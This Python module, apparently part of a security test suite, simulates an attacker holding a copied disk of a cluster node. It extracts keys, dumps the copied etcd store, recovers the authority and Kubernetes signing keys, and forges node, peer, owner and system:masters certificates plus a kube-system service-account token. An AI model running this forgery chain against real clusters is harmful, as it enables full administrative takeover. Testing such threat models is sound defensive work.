"""What an attacker makes of a copied disk: the keys and certificates on it as PEM files, and what the keys of authorities
sign.

The certificates that the attacker signs are like those of the cluster, except for their key, which is the attacker's.
"""

import base64
import glob
import json
import os
import re
import secrets
import shutil
import subprocess
import time

from channels import Calls, Ended, Identity, NotServed
from protobuf import all_of, message

# The kinds of keys of Kubernetes (`KubernetesKeys` of the contract).
CLIENTS, SERVICE_ACCOUNTS = 2, 5
ISSUER = 'https://kubernetes.default.svc.cluster.local'
BOTH_ENDS = 'extendedKeyUsage=serverAuth,clientAuth'


def openssl(*words, text=None):
    done = subprocess.run(['openssl', *words], input=text, capture_output=True, check=False)
    if done.returncode:
        raise SystemExit(f'openssl {words[0]}: {done.stderr.decode(errors="replace")}')
    return done.stdout


def write(path, content):
    with open(path, 'wb') as file:
        file.write(content if isinstance(content, bytes) else content.encode())


def read_json(path):
    with open(path) as file:
        return json.load(file)


def pem(kind, der):
    return f'-----BEGIN {kind}-----\n{base64.encodebytes(der).decode()}-----END {kind}-----\n'


def ed25519_key(pkcs8, path):
    """Writes a key as OpenSSL reads it: without the public key, which PKCS #8 has in its second version."""
    seed = re.search(rb'\x04\x22\x04\x20(.{32})', pkcs8, re.DOTALL)[1]
    write(path, pem('PRIVATE KEY', bytes.fromhex('302e020100300506032b657004220420') + seed))


def public_key(key):
    return openssl('pkey', '-in', key, '-pubout', '-outform', 'DER')[-32:]


def node_id(key):
    return f'node-{public_key(key)[:16].hex()}'


def sign_itself(pair):
    write(f'{pair}.crt', openssl('req', '-x509', '-new', '-key', f'{pair}.key', '-subj', '/CN=roleserver', '-days', '1'))


def copy_disk(state, out):
    """Copies the keys and certificates from the state directory of a role server."""
    os.makedirs(out)
    cluster = f'{state}/cluster'
    about = {}

    def add(name, key, certificate):
        shutil.copy(key, f'{out}/{name}.key')
        write(f'{out}/{name}.crt', certificate)

    if os.path.exists(f'{state}/identity.pk8'):
        with open(f'{state}/identity.pk8', 'rb') as file:
            ed25519_key(file.read(), f'{out}/agent.key')
        sign_itself(f'{out}/agent')
    with open(f'{cluster}/node_key.pk8', 'rb') as file:
        ed25519_key(file.read(), f'{out}/key.key')
    sign_itself(f'{out}/key')
    about['node'] = node_id(f'{out}/key.key')
    credentials = read_json(f'{cluster}/credentials.json')
    add('node', f'{out}/key.key', pem('CERTIFICATE', bytes.fromhex(credentials['certificate'])))
    if os.path.exists(f'{cluster}/curator.json'):
        curator = read_json(f'{cluster}/curator.json')
        add('curator', f'{out}/key.key', pem('CERTIFICATE', bytes.fromhex(curator['certificate'])))
    if os.path.exists(f'{cluster}/etcd/peer.crt'):
        with open(f'{cluster}/etcd/peer.crt') as file:
            add('peer', f'{out}/key.key', file.read())
    for certificate in sorted(glob.glob(f'{cluster}/kubernetes/*/*.crt')):
        key = certificate.removesuffix('.crt') + '.key'
        if os.path.exists(key):
            with open(certificate) as file:
                add(f'kube-{os.path.basename(certificate).removesuffix(".crt")}', key, file.read())
    write(f'{out}/about.json', json.dumps(about))


def read_etcd(state, address, peer_port):
    """All keys and values of a copied etcd, which is started as the only member of a cluster of its own."""
    directory = f'{state}/cluster/etcd'
    data = read_json(f'{state}/cluster/membership.json')['data']
    place, url = f'{directory}/copy:1', f'http://{address}:{peer_port}'
    with open(f'{directory}/copy.log', 'wb') as log:
        etcd = subprocess.Popen(
            ['etcd', '--name', 'copy', '--data-dir', data, '--listen-client-urls', 'unix://copy:1',
             '--advertise-client-urls', 'unix://copy:1', '--listen-peer-urls', url, '--initial-advertise-peer-urls', url,
             '--force-new-cluster'], cwd=directory, stdout=log, stderr=log)
    try:
        calls, end = Calls(None, Identity('copy'), plain=place), time.monotonic() + 30
        while True:
            try:
                code, text, found = calls.call('etcdserverpb.KV/Range', message(1, b'\0') + message(2, b'\0'))
                if code == 'OK' and found:
                    break
            except (Ended, NotServed) as error:
                code, text = 'no answer', str(error)
            if time.monotonic() > end:
                raise SystemExit(f'the copied etcd does not answer: {code} {text}')
            time.sleep(0.2)
    finally:
        etcd.terminate()
        etcd.wait()
    return {all_of(one, 1)[0]: (all_of(one, 5) or [b''])[0] for one in all_of(found, 2)}


class Authority:
    """The certificate and the key of an authority, which signs what the attacker likes."""

    def __init__(self, pair):
        self.pair = pair

    def sign(self, out, subject, *extensions, kind='ed25519'):
        """Signs a certificate for a new key, unless there is a key already."""
        if not os.path.exists(f'{out}.key'):
            options = ['-algorithm', 'EC', '-pkeyopt', 'ec_paramgen_curve:P-256'] if kind == 'p256' else ['-algorithm', kind]
            write(f'{out}.key', openssl('genpkey', *options))
        write(f'{out}.ext', '\n'.join(extensions) + '\n')
        request = openssl('req', '-new', '-key', f'{out}.key', '-subj', subject)
        serial = bytearray(secrets.token_bytes(16))
        serial[0] = serial[0] & 0x7f | 0x40
        write(f'{out}.crt', openssl('x509', '-req', '-CA', f'{self.pair}.crt', '-CAkey', f'{self.pair}.key', '-days', '1',
                                    '-set_serial', f'0x{serial.hex()}', '-extfile', f'{out}.ext', text=request))


def forge(state, out, address, peer_port):
    """Reads the keys of authorities from the copied etcd, and signs with them."""
    records = read_etcd(state, address, peer_port)
    (record,) = [value for key, value in records.items() if key.endswith(b'/authority')]
    write(f'{out}/authority.crt', pem('CERTIFICATE', all_of(record, 2)[0]))
    ed25519_key(all_of(record, 3)[0], f'{out}/authority.key')
    authority = Authority(f'{out}/authority')
    write(f'{out}/false-node.key', openssl('genpkey', '-algorithm', 'ed25519'))
    own = node_id(f'{out}/false-node.key')
    for name, organisation in ('false-node', ''), ('false-curator', '/O=curator'):
        if name != 'false-node':
            shutil.copyfile(f'{out}/false-node.key', f'{out}/{name}.key')
        authority.sign(f'{out}/{name}', f'{organisation}/CN={own}', BOTH_ENDS, f'subjectAltName=DNS:{own}')
    authority.sign(f'{out}/false-owner', '/O=owner/CN=kim', 'extendedKeyUsage=clientAuth')
    authority.sign(f'{out}/false-peer', '/CN=etcd peer', BOTH_ENDS, f'subjectAltName=IP:{address}')
    kubernetes = [value for key, value in records.items() if key.endswith(b'/curator/kubernetes/keys')]
    if not kubernetes:
        return
    for ring in all_of(kubernetes[0], 3):
        kind, signing = all_of(ring, 1)[0], all_of(ring, 2)[0]
        pair = f'{out}/authority-{kind}'
        write(f'{pair}.key', pem('PRIVATE KEY', all_of(signing, 2)[0]))
        if kind == CLIENTS:
            write(f'{pair}.crt', pem('CERTIFICATE', all_of(signing, 1)[0]))
            Authority(pair).sign(f'{out}/false-master', '/O=system:masters/CN=kim', 'extendedKeyUsage=clientAuth', kind='p256')
        if kind == SERVICE_ACCOUNTS:
            forge_token(records, f'{pair}.key', f'{out}/token')


def forge_token(records, key, out):
    """A token of the service account `default` in kube-system."""
    account, *_ = [value for key, value in records.items() if key.endswith(b'/serviceaccounts/kube-system/default')]
    uid = re.search(rb'[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}', account)[0].decode()
    now = int(time.time())
    claims = {'iss': ISSUER, 'aud': [ISSUER], 'sub': 'system:serviceaccount:kube-system:default', 'iat': now, 'nbf': now,
              'exp': now + 7200,
              'kubernetes.io': {'namespace': 'kube-system', 'serviceaccount': {'name': 'default', 'uid': uid}}}

    def encode(part):
        return base64.urlsafe_b64encode(part).rstrip(b'=').decode()

    signed = '.'.join(encode(json.dumps(part).encode()) for part in ({'alg': 'ES256', 'kid': 'copy'}, claims))
    signature = openssl('dgst', '-sha256', '-sign', key, text=signed.encode())
    # A sequence of two numbers, each of which may begin with a zero.
    numbers, rest = [], signature[2:]
    for _ in range(2):
        numbers.append(int.from_bytes(rest[2:2 + rest[1]], 'big').to_bytes(32, 'big'))
        rest = rest[2 + rest[1]:]
    write(out, f'{signed}.{encode(b"".join(numbers))}')


def ssh_key(pair):
    """Writes an Ed25519 key as OpenSSH reads it."""
    public = public_key(f'{pair}.key')
    seed = openssl('pkey', '-in', f'{pair}.key', '-outform', 'DER')[-32:]

    def text(part):
        return len(part).to_bytes(4, 'big') + part

    shown = text(b'ssh-ed25519') + text(public)
    secret = b'\0' * 8 + shown + text(seed + public) + text(b'')
    secret += bytes(range(1, 1 + -len(secret) % 8))
    whole = b'openssh-key-v1\0' + text(b'none') * 2 + text(b'') + (1).to_bytes(4, 'big') + text(shown) + text(secret)
    write(f'{pair}.ssh', pem('OPENSSH PRIVATE KEY', whole))
    os.chmod(f'{pair}.ssh', 0o600)
